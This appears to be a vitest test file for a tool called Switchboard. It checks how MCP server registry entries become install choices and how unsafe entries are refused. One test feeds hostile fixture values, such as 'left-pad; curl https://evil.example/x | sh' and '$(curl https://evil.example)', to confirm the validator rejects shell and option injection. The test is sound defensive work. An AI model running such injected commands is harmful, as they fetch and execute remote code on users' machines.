import { describe, expect, it } from 'vitest';
import { fixtureServer } from '../../../../e2e/fixtures/registry/fixtureServer';
import { type InstallChoice, installChoices } from './installChoices';

const airtable = () => fixtureServer('upstream/seed/seed.json', 1);
const brief = (choices: InstallChoice[]) =>
  choices.map((c) =>
    c.kind === 'unavailable' ? { id: c.id, reasons: c.reasons } : { id: c.id, summary: c.summary },
  );

describe('installChoices', () => {
  it('offers each package and remote of a real entry with what it runs and what it asks', () => {
    const choices = installChoices(airtable());
    expect(brief(choices)).toEqual([
      { id: 'packages/0', summary: 'Runs npx -y airtable-mcp-server@1.7.3' },
      {
        id: 'packages/1',
        summary: 'Runs docker run -i --rm -e AIRTABLE_API_KEY docker.io/domdomegg/airtable-mcp-server:1.7.3',
      },
      {
        id: 'packages/2',
        summary:
          'Downloads the bundle https://github.com/domdomegg/airtable-mcp-server/releases/download/v1.7.3/airtable-mcp-server.mcpb, checks its SHA-256, and runs it',
      },
    ]);
    const [npm, oci, bundle] = choices;
    expect(npm).toMatchObject({
      kind: 'package',
      registryType: 'npm',
      runtime: 'npx',
      label: 'npm package airtable-mcp-server 1.7.3',
      preview: { command: 'npx', args: ['-y', 'airtable-mcp-server@1.7.3'] },
      fields: [
        {
          key: 'packages/0/environmentVariables/0',
          label: 'AIRTABLE_API_KEY',
          target: 'env',
          format: 'string',
          required: true,
          secret: true,
          repeated: false,
        },
      ],
    });
    expect(oci).toMatchObject({
      kind: 'package',
      runtime: 'docker',
      label: expect.stringContaining('Docker image'),
    });
    expect(bundle).toEqual({
      kind: 'bundle',
      id: 'packages/2',
      label:
        'MCP bundle https://github.com/domdomegg/airtable-mcp-server/releases/download/v1.7.3/airtable-mcp-server.mcpb',
      summary: expect.any(String),
      url: 'https://github.com/domdomegg/airtable-mcp-server/releases/download/v1.7.3/airtable-mcp-server.mcpb',
      fileSha256: '0f28a9129cfebd262dfb77854c872355d21401bb3e056575b3027081f5d570ca',
      fields: [],
    });
  });

  it('declares the form from server.json: variables of fixed values, repeated arguments, choices, defaults', () => {
    const [npm, oci] = installChoices(fixtureServer('upstream/docs/filesystem.json'));
    expect(npm?.kind === 'package' && npm.fields).toEqual([
      {
        key: 'packages/0/packageArguments/0',
        label: 'target_dir',
        target: 'argument',
        description: 'Path to access',
        format: 'string',
        required: true,
        secret: false,
        repeated: true,
        default: '/Users/username/Desktop',
      },
      {
        key: 'packages/0/environmentVariables/0',
        label: 'LOG_LEVEL',
        target: 'env',
        description: 'Logging level (debug, info, warn, error)',
        format: 'string',
        required: false,
        secret: false,
        repeated: false,
        default: 'info',
      },
    ]);
    expect(
      oci?.kind === 'package' && oci.fields.map((f) => [f.key, f.format, f.required, f.default]),
    ).toEqual([
      ['packages/1/runtimeArguments/0/variables/source_path', 'filepath', true, undefined],
      ['packages/1/runtimeArguments/0/variables/target_path', 'string', true, '/project'],
      ['packages/1/environmentVariables/0', 'string', false, 'info'],
    ]);
    expect(oci?.summary).toBe(
      'Runs docker run -i --rm --mount type=bind,src=<source_path>,dst=<target_path> -e LOG_LEVEL docker.io/mcp/filesystem:1.0.2 /project',
    );
    const documented = fixtureServer('upstream/docs/database-manager.json');
    const [refused] = installChoices(documented);
    expect(refused?.summary).toBe(
      'Runs docker run -i --rm --network host -e DB_TYPE=<db_type> -e DB_USERNAME -e DB_PASSWORD -e SSL_MODE docker.io/example/database-manager-mcp:3.1.0 --host <host> --port <port> <database_name>',
    );
    // The documented example shares this computer's network with the container: refused (issue 47).
    expect(refused?.kind === 'unavailable' && refused.reasons).toEqual([
      'packages/0/runtimeArguments/0 (--network): --network "host" shares this computer\'s network with the container',
    ]);
    documented.packages![0]!.runtimeArguments![0]!.value = 'bridge';
    const [db] = installChoices(documented);
    expect(db?.kind === 'package' && db.fields.find((f) => f.label === 'db_type')?.choices).toEqual([
      'postgres',
      'mysql',
      'mongodb',
      'redis',
    ]);
  });

  it('offers remotes with their URL variables and headers', () => {
    const choices = installChoices(fixtureServer('upstream/docs/hybrid-mcp.json'));
    expect(choices.map((c) => [c.id, c.kind])).toEqual([
      ['packages/0', 'package'],
      ['remotes/0', 'remote'],
      ['remotes/1', 'remote'],
    ]);
    expect(choices[1]).toMatchObject({
      transport: 'http',
      url: 'https://mcp.anonymous.modelcontextprotocol.io/http',
      label: 'Remote server (streamable HTTP) at https://mcp.anonymous.modelcontextprotocol.io/http',
      summary: 'Connects to https://mcp.anonymous.modelcontextprotocol.io/http',
      fields: [
        { key: 'remotes/0/headers/0', label: 'X-API-Key', target: 'header', secret: true, required: true },
        { key: 'remotes/0/headers/1', label: 'X-Region', default: 'us-east-1', choices: expect.any(Array) },
      ],
    });
    expect(choices[2]).toMatchObject({ transport: 'sse', fields: [] });
    const [remote] = installChoices(fixtureServer('upstream/examples/valid/with-remote.json'));
    expect(remote?.kind === 'remote' && remote.fields.map((f) => [f.key, f.target, f.default])).toEqual([
      ['remotes/0/variables/host', 'url', 'api.example.com'],
      ['remotes/0/headers/0', 'header', undefined],
    ]);
    const [tenant] = installChoices(fixtureServer('ours/remote-variables.json'));
    expect(tenant?.kind === 'remote' && tenant.fields.map((f) => [f.key, f.secret])).toEqual([
      ['remotes/0/variables/tenant', false],
      ['remotes/0/headers/0/variables/api_key', true],
      ['remotes/0/headers/1', false],
    ]);
  });

  it('says why a choice cannot be installed: shell characters, options, ranges, unpinned, secrets on the command line', () => {
    expect(brief(installChoices(fixtureServer('ours/hostile-identifier.json')))).toEqual([
      {
        id: 'packages/0',
        reasons: [
          'packages/0 its identifier "left-pad; curl https://evil.example/x | sh" is not an npm package name: it holds the shell character ";" ("left-pad; curl https://evil.example/x | sh")',
        ],
      },
    ]);
    expect(brief(installChoices(fixtureServer('ours/hostile-version.json')))).toEqual([
      {
        id: 'packages/0',
        reasons: [
          'packages/0 its version starts with "-", so the program would read it as an option ("--registry=https://evil.example")',
        ],
      },
      {
        id: 'packages/1',
        reasons: ['packages/1 its version ">=0.5" is a range, not one version: the package is not pinned'],
      },
    ]);
    expect(brief(installChoices(fixtureServer('ours/hostile-arguments.json')))).toEqual([
      {
        id: 'packages/0',
        reasons: [
          'packages/0/packageArguments/0 ($(curl https://evil.example)): the value holds the shell character "$" ("$(curl https://evil.example)")',
        ],
      },
      {
        id: 'packages/1',
        reasons: [
          'packages/1/packageArguments/0 (--out;rm): its flag is not a flag (one or two dashes, then letters, digits, "_", ".", ":" or "-"): "--out;rm"',
        ],
      },
      { id: 'packages/2', summary: 'Runs npx -y left-pad@1.3.0 <folder>' },
    ]);
    expect(brief(installChoices(fixtureServer('ours/unpinned.json')))).toEqual([
      { id: 'packages/0', reasons: ['packages/0 names no version of left-pad: the package is not pinned'] },
      {
        id: 'packages/1',
        reasons: [
          'packages/1 its image docker.io/mcp/filesystem:latest is tagged "latest", not a version: the image is not pinned',
        ],
      },
      {
        id: 'packages/2',
        reasons: [
          'packages/2 its image mcp/filesystem names no tag, digest or version: the image is not pinned',
        ],
      },
      {
        id: 'packages/3',
        reasons: ['packages/3 its version "1.x" is a range, not one version: the package is not pinned'],
      },
    ]);
    const secret = installChoices(fixtureServer('ours/secret-argument.json'));
    expect(secret.map((c) => c.kind)).toEqual(['unavailable', 'unavailable']);
    expect(brief(secret)[0]).toEqual({
      id: 'packages/0',
      reasons: [
        'packages/0/packageArguments/0 (--api-key) asks for a secret on the command line: Switchboard keeps secrets only in environment variables and headers (never in config.json), so it cannot install this way',
      ],
    });
    expect(brief(secret)[1]).toMatchObject({
      reasons: [expect.stringContaining('its URL holds the secret key')],
    });
  });

  it('takes a runtime hint for another program only when no runtime arguments were written for it', () => {
    const pypi = installChoices(fixtureServer('upstream/seed/seed.json', 3));
    expect(brief(pypi)).toEqual([{ id: 'packages/0', summary: 'Runs uvx time-mcp-pypi==1.0.6' }]);
    const server = fixtureServer('upstream/seed/seed.json', 3);
    server.packages![0]!.runtimeArguments = [{ type: 'positional', value: '-u' }];
    expect(brief(installChoices(server))).toEqual([
      {
        id: 'packages/0',
        reasons: [
          'packages/0 has runtime arguments written for "python", but Switchboard runs pypi packages with uvx',
        ],
      },
    ]);
  });

  it('refuses package kinds and transports it cannot run, and bundles it could not check', () => {
    const server = fixtureServer('upstream/examples/valid/minimal.json');
    server.packages = [
      { registryType: 'cargo', identifier: 'mcp-thing', version: '1.0.0', transport: { type: 'stdio' } },
      {
        registryType: 'npm',
        identifier: 'http-mcp',
        version: '1.0.0',
        transport: { type: 'streamable-http', url: 'http://localhost:{port}/mcp' },
      },
      { registryType: 'mcpb', identifier: 'http://example.com/x.mcpb', transport: { type: 'stdio' } },
    ];
    server.remotes = [
      { type: 'streamable-http', url: 'http://mcp.example.com/mcp' },
      { type: 'sse', url: 'https://{region}.example.com/sse' },
    ];
    expect(brief(installChoices(server))).toEqual([
      {
        id: 'packages/0',
        reasons: [
          'packages/0 is a "cargo" package, which Switchboard cannot install (it runs npm, pypi, oci and nuget packages, and mcpb bundles)',
        ],
      },
      {
        id: 'packages/1',
        reasons: [
          'packages/1 serves streamable-http from a local process; Switchboard starts local servers that speak stdio only',
        ],
      },
      {
        id: 'packages/2',
        reasons: [
          "packages/2: the bundle's address is not an https URL",
          'packages/2: the bundle has no fileSha256, so what is downloaded could not be checked',
        ],
      },
      {
        id: 'remotes/0',
        reasons: [
          'remotes/0: http://mcp.example.com/mcp uses plain http to another computer; Switchboard installs only https remotes',
        ],
      },
      {
        id: 'remotes/1',
        reasons: ['remotes/1: its URL holds {region}, which the entry declares no variable for'],
      },
    ]);
    expect(installChoices(fixtureServer('upstream/docs/embedded-mcp.json'))).toEqual([]);
  });
});
